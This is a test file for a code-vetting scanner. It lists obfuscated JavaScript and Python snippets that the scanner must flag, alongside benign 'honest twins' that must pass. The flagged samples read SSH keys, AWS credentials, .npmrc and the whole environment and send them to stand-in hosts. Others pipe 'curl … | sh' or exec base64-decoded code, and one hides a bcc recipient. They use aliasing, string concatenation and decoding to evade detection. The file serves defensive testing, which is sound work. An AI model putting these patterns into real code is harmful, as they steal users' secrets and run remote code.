@@ -1,0 +1,200 @@
+// The same harm in many clothes: renamed, put together, decoded, handed through functions, classes and aliases. What it does decides, and not
+// what it is called. Beside each stands an honest twin that must pass.
+import { describe, expect, test } from 'vitest'
+import { isAtLeast } from '../../src/core/report/outcome.ts'
+import { judgeCode } from '../../src/core/vet/judge.ts'
+import { readSource } from '../../src/core/vet/read-source.ts'
+import { CODE_RULES } from '../../src/core/vet/rules/index.ts'
+import type { Language } from '../../src/core/vet/source.ts'
+import { SAYS } from '../../src/flows/vet/says.ts'
+import { loadJavascript } from '../../src/io/engine/javascript.ts'
+import { loadPython } from '../../src/io/engine/python.ts'
+
+const readers = { javascript: await loadJavascript(), python: await loadPython() }
+
+function graveIn(language: Language, text: string): string[] {
+  const file = readSource({ path: language === 'python' ? 'a.py' : 'a.ts', language, text }, readers)
+  expect(file.unread).toBeNull()
+  const { seen } = judgeCode({ files: [file], manifest: null, says: SAYS, known: [] }, CODE_RULES)
+  return [...new Set(seen.filter(({ rule }) => isAtLeast(rule.severity, 'high')).map(({ rule }) => rule.id))]
+}
+
+const javascript: readonly (readonly [string, string, string])[] = [
+  [
+    'by alias',
+    'code-sends-secrets',
+    "import * as f from 'node:fs'; import h from 'node:os'; const r = f.readFileSync; const p = h.homedir(); const d = r(p + '/.ssh/id_ed25519', 'utf8'); fetch('https://a.example', { method: 'POST', body: d })",
+  ],
+  [
+    'by destructuring',
+    'code-sends-secrets',
+    "const { readFileSync: q } = require('fs'); const { homedir: w } = require('os'); const z = q(`${w()}/.ssh/id_rsa`); require('https').request('https://a.example').end(z)",
+  ],
+  [
+    'by a name put together',
+    'code-sends-secrets',
+    "const m = require('f' + 's'); const d = m['readFile' + 'Sync'](process.env.HOME + '/.ssh/' + 'id_' + 'rsa'); fetch('https://a.example', { body: d })",
+  ],
+  [
+    'by a decoded path',
+    'code-sends-secrets',
+    "const fs = require('fs'); const p = Buffer.from('fi8uc3NoL2lkX3JzYQ==', 'base64').toString(); fetch('https://a.example', { body: fs.readFileSync(p) })",
+  ],
+  [
+    'through functions',
+    'code-sends-secrets',
+    "const fs = require('fs'); const take = (p) => fs.readFileSync(p, 'utf8'); const wrap = (x) => ({ metrics: x }); async function push(v) { await fetch('https://a.example', { method: 'POST', body: JSON.stringify(v) }) } push(wrap(take(require('os').homedir() + '/.ssh/id_rsa')))",
+  ],
+  [
+    'through a class',
+    'code-sends-secrets',
+    "import fs from 'fs'; import os from 'os'; class A { items = []; gather() { this.items.push(fs.readFileSync(os.homedir() + '/.ssh/id_rsa')) } async report() { await fetch('https://a.example', { body: JSON.stringify({ list: this.items }) }) } } const a = new A(); a.gather(); await a.report()",
+  ],
+  [
+    'through a list and a loop',
+    'code-sends-secrets',
+    "const fs = require('fs'); const home = require('os').homedir(); const out = {}; for (const t of ['.ssh/id_rsa', '.aws/credentials', '.npmrc']) { try { out[t] = fs.readFileSync(require('path').join(home, t), 'utf8') } catch {} } fetch('https://a.example', { method: 'POST', body: Buffer.from(JSON.stringify(out)).toString('base64') }).catch(() => {})",
+  ],
+  [
+    'through a promise',
+    'code-sends-secrets',
+    "const fs = require('fs/promises'); fs.readFile(require('os').homedir() + '/.ssh/id_rsa').then((d) => fetch('https://a.example', { body: d }))",
+  ],
+  [
+    'through a callback',
+    'code-sends-secrets',
+    "const fs = require('fs'); fs.readFile(require('os').homedir() + '/.ssh/id_rsa', (e, d) => { fetch('https://a.example', { body: d }) })",
+  ],
+  [
+    'by a dynamic import',
+    'code-sends-secrets',
+    "const fs = await import('node:' + 'fs'); const d = fs.readFileSync('/home/me/.ssh/id_rsa'); await fetch('https://a.example', { body: d })",
+  ],
+  [
+    'the whole environment, as JSON',
+    'code-sends-environment',
+    "const all = JSON.stringify(process.env); fetch('https://a.example', { method: 'POST', body: all })",
+  ],
+  [
+    'the whole environment, entry by entry',
+    'code-sends-environment',
+    "const all = Object.entries(process.env).map(([k, v]) => k + '=' + v); fetch('https://a.example', { method: 'POST', body: all.join('\\n') })",
+  ],
+  [
+    'a program by a name put together',
+    'code-runs-download',
+    "const c = require('child_' + 'process'); c['ex' + 'ec']('curl -s https://a.example/x | ' + 'sh')",
+  ],
+  [
+    'code out of an answer',
+    'code-runs-download',
+    "const r = await fetch('https://a.example/x'); const t = await r.text(); const f = Function; f(t)()",
+  ],
+  [
+    'a recipient in a helper',
+    'code-hidden-recipient',
+    "const base = () => ({ bcc: 'x@evil.example' }); const send = (m) => fetch('https://api.example/send', { body: JSON.stringify({ ...base(), ...m }) }); send({ to: 'a' })",
+  ],
+]
+
+const python: readonly (readonly [string, string, string])[] = [
+  [
+    'by alias',
+    'code-sends-secrets',
+    "import os as o, requests as r\np = o.path.join(o.path.expanduser('~'), '.ssh', 'id_rsa')\nd = open(p).read()\nr.post('https://a.example', data=d)\n",
+  ],
+  ['by getattr', 'code-runs-download', "import os\ngetattr(os, 'sys' + 'tem')('curl -s https://a.example/x | sh')\n"],
+  ['by __import__', 'code-runs-download', "__import__('o' + 's').system('curl -s https://a.example/x | sh')\n"],
+  [
+    'by importlib',
+    'code-runs-download',
+    "import importlib\nm = importlib.import_module('subprocess')\nm.run('curl -s https://a.example/x | sh', shell=True)\n",
+  ],
+  [
+    'by pathlib',
+    'code-sends-secrets',
+    "from pathlib import Path\nimport httpx\nd = (Path.home() / '.ssh' / 'id_rsa').read_text()\nhttpx.post('https://a.example', json={'d': d})\n",
+  ],
+  [
+    'through a generator and a class',
+    'code-sends-secrets',
+    "import glob, os, json, urllib.request\nclass A:\n    def __init__(self):\n        self.found = []\n    def walk(self):\n        for p in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n            with open(p) as f:\n                yield f.read()\n    def run(self):\n        for x in self.walk():\n            self.found.append(x)\n        q = urllib.request.Request('https://a.example', data=json.dumps(self.found).encode())\n        urllib.request.urlopen(q)\nA().run()\n",
+  ],
+  [
+    'by a session',
+    'code-sends-environment',
+    "import os, aiohttp\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://a.example', json=dict(os.environ))\n",
+  ],
+  [
+    'by a socket',
+    'code-sends-secrets',
+    "import socket, os\ns = socket.socket()\ns.connect(('a.example', 80))\ns.sendall(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n",
+  ],
+  [
+    'decoded code',
+    'code-runs-decoded',
+    "import base64 as b\nx = b.b64decode('cHJpbnQoMSk=')\nexec(compile(x, 'a', 'exec'))\n",
+  ],
+]
+
+describe.each([
+  ['javascript', javascript],
+  ['python', python],
+] as const)('%s', (language, cases) => {
+  test.each(cases)('%s: %s', (_, id, text) => {
+    expect(graveIn(language, text)).toContain(id)
+  })
+})
+
+describe('honest twins', () => {
+  test.each([
+    [
+      'javascript',
+      'a key of its own service',
+      "const key = process.env.API_KEY; const r = await fetch('https://api.example/v1', { headers: { authorization: `Bearer ${key}` } }); console.log(await r.json())",
+    ],
+    [
+      'javascript',
+      'variables handed to a program',
+      "const { spawn } = require('child_process'); spawn('git', ['status'], { env: { ...process.env, LANG: 'C' } })",
+    ],
+    [
+      'javascript',
+      'a configuration read from all variables',
+      'const env = { ...process.env }; const url = env.API_URL; const r = await fetch(url, { headers: { token: env.TOKEN } }); console.log(r.status)',
+    ],
+    [
+      'javascript',
+      'a file that was asked for',
+      "server.tool('upload', 'Uploads a file', {}, async ({ path }) => { const r = await fetch('https://api.example/files', { method: 'POST', body: require('fs').readFileSync(path) }); return r.json() })",
+    ],
+    [
+      'javascript',
+      'a recipient that was asked for',
+      "server.tool('mail', 'Sends mail', {}, async ({ to, bcc }) => { const r = await fetch('https://api.example/mail', { method: 'POST', body: JSON.stringify({ to, bcc }) }); return r.json() })",
+    ],
+    [
+      'javascript',
+      'text that was decoded and shown',
+      "const text = Buffer.from(process.argv[2], 'base64').toString(); console.log(text)",
+    ],
+    [
+      'python',
+      'a program with arguments',
+      "import subprocess\nfrom mcp import FastMCP\napp = FastMCP('a')\n@app.tool()\ndef log(count: int) -> str:\n    return subprocess.run(['git', 'log', f'-{count}'], capture_output=True).stdout\n",
+    ],
+    [
+      'python',
+      'a cache of its own',
+      "import json, os\npath = os.path.expanduser('~/.cache/weather/answers.json')\nwith open(path, 'w') as f:\n    json.dump({}, f)\n",
+    ],
+    [
+      'python',
+      'a client with a token',
+      "import os, httpx\nc = httpx.Client(headers={'authorization': os.environ['TOKEN']})\nprint(c.get('https://api.example/items').json())\n",
+    ],
+    ['python', 'a loop over what is there', "import os\nfor name in os.listdir('.'):\n    print(open(name).read())\n"],
+  ] as const)('%s: %s', (language, _, text) => {
+    expect(graveIn(language, text)).toEqual([])
+  })
+})
